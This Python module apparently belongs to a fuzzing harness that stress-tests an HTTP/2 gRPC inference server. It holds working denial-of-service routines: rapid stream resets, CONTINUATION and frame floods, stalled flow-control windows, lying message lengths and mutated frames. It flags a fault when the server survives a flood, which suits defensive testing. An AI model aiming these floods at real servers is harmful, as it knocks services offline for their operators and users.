"""Attacks on HTTP/2 and gRPC: resets, floods, windows that stay shut, and wrong frames and messages."""

import socket
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from attacker import Attacker, corpus, mutated
from http_kinds import IMAGE

import raw_http2 as h2

CODES = (0, 8, 0, 1, 2, 5, 7, 11, 13, 2**32 - 1)
"""Why a call is reset. Zero says that there was no error."""
MOST_FRAMES = 200_000
"""A connection that sent so many frames without meaning, as fast as it could, should have been ended."""
FIRST_INDEX = 62
"""Of the table that both sides fill; the newest entry is first."""
FROZEN = b"FUZZPING"


def varint(value: int) -> bytes:
    """Write a number as protocol buffers do."""
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def entry(number: int, raw: bytes) -> bytes:
    """Write a field of a message that has bytes."""
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def infer_message(raw: bytes = IMAGE) -> bytes:
    """Return a ModelInferRequest for one picture."""
    parameter = entry(1, b"plan") + entry(2, entry(3, b"0.25"))
    tensor = entry(1, b"images") + entry(2, b"UINT8") + entry(3, bytes([1, 3, 32, 32]))
    return (
        entry(1, b"slimresnet")
        + entry(4, parameter)
        + entry(5, tensor)
        + entry(6, entry(1, b"classes"))
        + entry(7, raw)
    )


class Heads:
    """The headers of a call: sent whole once, then by their places in the table of the connection."""

    def __init__(self, path: str = h2.INFER, **more: str) -> None:
        names = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
        names |= {"content-type": "application/grpc", "te": "trailers", **more}
        self._names = list(names)
        self.first = b"".join(b"\x40" + h2.field(name, value)[1:] for name, value in names.items())
        self.again = b"".join(self.index(name) for name in names)

    def index(self, name: str) -> bytes:
        """Return a header by its place in the table."""
        return bytes([0x80 | FIRST_INDEX + len(self._names) - 1 - self._names.index(name)])


def is_alive(one: Attacker, client: socket.socket) -> bool:
    """Whether the server has read everything and still answers on this connection."""
    if not one.flood(client, h2.frame(h2.PING, 0, 0, FROZEN)):
        return False
    client.settimeout(1.0)
    received, until_s = b"", time.monotonic() + 8.0
    while time.monotonic() < until_s:
        try:
            part = client.recv(2**18)
        except TimeoutError:
            continue
        except OSError:
            return False
        if not part:
            return False
        received = (received + part)[-(2**19) :]
        if h2.frame(h2.PING, 1, 0, FROZEN) in received:
            return True
    return False


def hello(one: Attacker, settings: bytes = b"") -> socket.socket:
    """Open a connection and say hello."""
    client = one.connect(one.grpc_port)
    client.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, settings))
    return client


def repeat_until_closed(one: Attacker, what: str, part: Callable[[int], bytes], frames: int) -> None:
    """Send parts with this many frames each; it is a fault if the connection bears too many of them."""
    with hello(one) as client, suppress(OSError):
        count = 0
        while one.goes_on:
            data = part(count)
            if not count:
                one.note(data)
            if not one.flood(client, data):
                return
            count += frames
            if count % MOST_FRAMES < frames and is_alive(one, client):
                one.board.fault(
                    f"flood of {what}", f"{count:,} frames on one connection, and it is still open"
                )
                return


def rapid_reset(one: Attacker) -> None:
    """Open calls and reset them at once, with every code."""
    code = one.rng.choice(CODES)
    heads, body = Heads(), b""
    if one.rng.random() < 0.7:
        body = h2.message(b"" if one.rng.random() < 0.5 else infer_message())
    step = 200

    def part(count: int) -> bytes:
        out = []
        for at in range(step):
            stream = 2 * (count // 2 + at) + 1
            out.append(
                h2.frame(h2.HEADERS, h2.END_HEADERS, stream, heads.again if stream > 1 else heads.first)
            )
            if body:
                out.append(h2.frame(h2.DATA, 0, stream, body))
            out.append(h2.frame(h2.RST_STREAM, 0, stream, code.to_bytes(4, "big")))
        return b"".join(out)

    repeat_until_closed(
        one, f"calls {'with' if body else 'without'} messages, reset with code {code}", part, 2 * step
    )


def reset_reconnect(one: Attacker) -> None:
    """Reset a few hundred calls with large heads, made of one large entry of the table, and connect again."""
    large, code = Heads(authorization="x" * 3600), one.rng.choice(CODES)
    again = large.again + large.index("authorization") * 7
    body = h2.message(infer_message()) if one.rng.random() < 0.2 else h2.message(b"")
    parts = []
    for stream in range(1, one.rng.choice([201, 401, 801]), 2):
        parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, large.first if stream == 1 else again))
        parts.append(h2.frame(h2.DATA, 0, stream, body))
        parts.append(h2.frame(h2.RST_STREAM, 0, stream, code.to_bytes(4, "big")))
    data = b"".join(parts)
    one.note(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + data)
    for _ in range(50):
        if not one.goes_on:
            return
        with hello(one) as client, suppress(OSError):
            one.flood(client, data)
            if one.rng.random() < 0.5:
                client.shutdown(socket.SHUT_WR)  # what is on its way is still read


def heads_only(one: Attacker) -> None:
    """Open as many calls as possible without a message, or with the start of one, and hold them."""
    paths = [h2.INFER, h2.INFER, h2.INFER, "/inference.GRPCInferenceService/ModelStreamInfer", "/x/y"]
    starts = [b"", b"", b"", b"\0\0\0\x0c\0", b"\0\x7f\0\0\0" + b"x" * 1000]
    with ExitStack() as stack:
        clients: list[socket.socket] = []
        while one.goes_on:
            if len(clients) < 12:
                heads, start = Heads(one.rng.choice(paths)), one.rng.choice(starts)
                client = stack.enter_context(hello(one))
                data = b""
                for stream in range(1, 1025, 2):
                    data += h2.frame(
                        h2.HEADERS, h2.END_HEADERS, stream, heads.first if stream == 1 else heads.again
                    )
                    data += h2.frame(h2.DATA, 0, stream, start) if start else b""
                one.note(data)
                if one.flood(client, data):
                    clients.append(client)
            clients = [client for client in clients if one.flood(client, h2.frame(h2.PING, 0, 0, FROZEN))]
            time.sleep(0.05)


def continuations(one: Attacker) -> None:
    """Send headers that do not end, in many frames or in one slow one."""
    kind = one.rng.choice([b"", h2.field("x-long", "y" * 3000), h2.field("x", "y")])
    with hello(one) as client, suppress(OSError):
        client.sendall(h2.frame(h2.HEADERS, 0, 1, h2.head()))
        data = h2.frame(h2.CONTINUATION, 0, 1, kind) * one.rng.choice([1, 7, 200])
        one.note(data)
        for _ in range(500):
            if not one.goes_on or not one.flood(client, data):
                return


def floods(one: Attacker) -> None:
    """Send frames that mean nothing, as fast as possible."""
    stream = one.rng.choice([0, 1])
    kinds = {
        "WINDOW_UPDATE": h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
        "WINDOW_UPDATE of a call": h2.frame(h2.WINDOW_UPDATE, 0, 1, b"\0\0\0\1"),
        "DATA with one byte": h2.frame(h2.DATA, 0, 1, b"\0"),
        "DATA with padding only": h2.frame(h2.DATA, 8, 1, b"\1\0"),
        "DATA with nothing": h2.frame(h2.DATA, 0, 1),
        "unknown frame": h2.frame(one.rng.randrange(10, 256), one.rng.randrange(256), stream, b"?"),
        "SETTINGS": h2.frame(h2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"),
        "answer to SETTINGS": h2.frame(h2.SETTINGS, 1, 0),
        "PING": h2.frame(h2.PING, 0, 0, b"12345678"),
        "answer to PING": h2.frame(h2.PING, 1, 0, b"12345678"),
        "PRIORITY": h2.frame(h2.PRIORITY, 0, 2 * one.rng.randrange(9) + 1, b"\0\0\0\0\1"),
        "RST_STREAM of a call that is over": h2.frame(h2.RST_STREAM, 0, 1, b"\0\0\0\0"),
        "GOAWAY": h2.frame(h2.GOAWAY, 0, 0, bytes(8)),
    }
    name = one.rng.choice(list(kinds))
    once = 500

    def part(count: int) -> bytes:
        start = b"" if count else h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.head())
        if not count and name.startswith("DATA"):
            start += h2.frame(h2.DATA, 0, 1, b"\0\0\x3c\0\0")  # a message that never is complete
        return start + kinds[name] * once

    repeat_until_closed(one, name, part, once)


def shut_windows(one: Attacker) -> None:
    """Ask for answers and take none of them, or one byte at a time."""
    size = one.rng.choice([0, 0, 1, 5])
    heads, body = (
        Heads(one.rng.choice([h2.INFER, "/inference.GRPCInferenceService/ServerMetadata"])),
        infer_message(),
    )
    with ExitStack() as stack:
        clients: list[socket.socket] = []
        for _ in range(4):
            client = stack.enter_context(hello(one, b"\0\4" + size.to_bytes(4, "big")))
            data = b"".join(
                h2.frame(h2.HEADERS, h2.END_HEADERS, stream, heads.first if stream == 1 else heads.again)
                + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(body))
                for stream in range(1, one.rng.choice([3, 101, 401]), 2)
            )
            one.note(data)
            clients += [client] if one.flood(client, data) else []
        while one.goes_on and clients:
            more = h2.frame(h2.WINDOW_UPDATE, 0, 2 * one.rng.randrange(100) + 1, b"\0\0\0\1")
            clients = [client for client in clients if one.flood(client, more)]
            time.sleep(0.02)


def half_messages(one: Attacker) -> None:
    """Announce large messages and send little, byte by byte or all but the end."""
    rng, heads, body = one.rng, Heads(), infer_message()
    with hello(one) as client, suppress(OSError):
        streams = range(1, rng.choice([3, 41, 201]), 2)
        for stream in streams:
            head = h2.frame(h2.HEADERS, h2.END_HEADERS, stream, heads.first if stream == 1 else heads.again)
            lies = [len(body) + 1, len(body) - 1, 0, 2**23 - 1, 2**23 + 1, 2**31, 2**32 - 1]
            prefix = rng.choice([b"\0", b"\0", b"\1", b"\xff"]) + rng.choice(lies).to_bytes(4, "big")
            data = head + h2.frame(
                h2.DATA, rng.choice([0, 0, 1]), stream, prefix + body[: rng.randrange(len(body) + 1)]
            )
            one.note(data)
            if not one.goes_on or not one.flood(client, data):
                return
        for _ in range(rng.randrange(100)):
            if not one.goes_on or not one.flood(client, h2.frame(h2.DATA, 0, rng.choice(streams), b"x")):
                return
            time.sleep(0.01)
        one.answers(client, 0.05)


def messages(one: Attacker) -> None:
    """Let the compiled line learn a head, then change bytes of messages, tensors and lengths."""
    rng, good, stream = one.rng, infer_message(), -1
    paths = [h2.INFER] * 6 + [f"/inference.GRPCInferenceService/{name}" for name in METHODS] + OTHERS
    with hello(one) as client, suppress(OSError):
        for turn in range(200):
            if not one.goes_on:
                return
            stream += 2
            message, path = good, h2.INFER
            if turn > 3 and rng.random() < 0.8:
                message, path = mutated(rng, good, [good]), rng.choice(paths)
                if rng.random() < 0.3:  # only in the tensor
                    message = (
                        good[: -rng.randrange(1, len(IMAGE))]
                        if rng.random() < 0.5
                        else infer_message(rng.randbytes(3072))
                    )
            data = h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.head(path))
            framed, cut = h2.message(message)[:100_000], rng.randrange(len(message) + 1)
            data += h2.frame(h2.DATA, 0, stream, framed[:cut]) + h2.frame(
                h2.DATA, h2.END_STREAM, stream, framed[cut:]
            )
            one.note(data)
            one.send_in_parts(client, data, 3)
            if rng.random() < 0.1:
                client.sendall(h2.frame(h2.RST_STREAM, 0, stream, rng.choice(CODES).to_bytes(4, "big")))
            if turn % 5 == 0:
                one.answers(client, 0.02)


METHODS = (
    "ServerLive",
    "ServerReady",
    "ModelReady",
    "ModelMetadata",
    "ModelConfig",
    "ModelStatistics",
    "TraceSetting",
    "LogSettings",
    "RepositoryIndex",
    "ModelStreamInfer",
    "SystemSharedMemoryStatus",
    "SystemSharedMemoryRegister",
)


OTHERS = [
    "/grpc.health.v1.Health/Check",
    "/grpc.health.v1.Health/Watch",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
]


def frames_of(data: bytes) -> list[bytes]:
    """Cut what follows the preface into frames."""
    rest, out = data.removeprefix(h2.PREFACE), []
    while rest:
        size = 9 + int.from_bytes(rest[:3], "big")
        out.append(rest[:size])
        rest = rest[size:]
    return out


def h2_mutate(one: Attacker) -> None:
    """Send the frames of the corpus with wrong flags, lengths, numbers and order."""
    rng, inputs = one.rng, corpus("h2")
    known = [frames_of(data) for data in inputs]
    while one.goes_on:
        frames = list(rng.choice(known))[: rng.choice([10, 100, 1000])]
        for _ in range(rng.choice([1, 2, 5, 20])):
            at = rng.randrange(len(frames) + 1)
            chosen = bytearray(frames[at % len(frames)] if frames else b"")
            match rng.randrange(8):
                case 0 if len(chosen) > 4:
                    chosen[4] = rng.randrange(256)  # flags
                case 1 if len(chosen) > 3:
                    chosen[3] = rng.randrange(12)  # its kind
                case 2 if len(chosen) > 2:
                    chosen[rng.randrange(3)] ^= 1 << rng.randrange(8)  # its size
                case 3 if len(chosen) > 8:
                    chosen[5:9] = rng.choice([0, 1, 2, 3, 2**31 - 1, 2**31]).to_bytes(4, "big")
                case 4:
                    frames[at:at] = [bytes(chosen)] * rng.choice([1, 2, 100])
                    continue
                case 5:
                    del frames[at : at + 1]
                    continue
                case 6:
                    rng.shuffle(frames)
                    continue
                case _:
                    chosen = bytearray(mutated(rng, bytes(chosen), inputs))
            frames[at : at + 1] = [bytes(chosen)]
        data = (h2.PREFACE if rng.random() < 0.97 else b"") + b"".join(frames)
        one.note(data)
        with one.connect(one.grpc_port) as client, suppress(OSError):
            one.send_in_parts(client, data[: 2**20])
            match rng.randrange(4):
                case 0:
                    client.shutdown(socket.SHUT_WR)
                    one.answers(client, 0.1)
                case 1:
                    pass
                case _:
                    one.answers(client, 0.02)


def h2_connects(one: Attacker) -> None:
    """Connect and reset as fast as possible, with nothing or with a hello."""
    starts = [
        b"",
        h2.PREFACE[:7],
        h2.PREFACE,
        h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0),
        b"GET / HTTP/1.1\r\n\r\n",
    ]
    while one.goes_on:
        start = one.rng.choice(starts)
        one.note(start)
        for _ in range(200):
            with one.connect(one.grpc_port) as client, suppress(OSError):
                if start:
                    client.send(start)
            if not one.goes_on:
                return


KINDS = {
    "h2-mutate": h2_mutate,
    "h2-connects": h2_connects,
    "rapid-reset": rapid_reset,
    "reset-reconnect": reset_reconnect,
    "heads-only": heads_only,
    "continuations": continuations,
    "floods": floods,
    "shut-windows": shut_windows,
    "half-messages": half_messages,
    "grpc-messages": messages,
}
